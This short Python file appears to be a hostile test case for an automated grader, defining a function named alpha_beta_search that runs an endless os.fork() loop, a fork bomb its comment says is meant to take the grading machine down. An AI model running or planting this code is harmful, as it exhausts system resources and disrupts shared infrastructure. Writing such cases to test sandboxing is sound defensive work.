# Hostile: a fork bomb, to take the grading machine down.
# Expected: raised
import os


def alpha_beta_search(game, state):
    while True:
        os.fork()
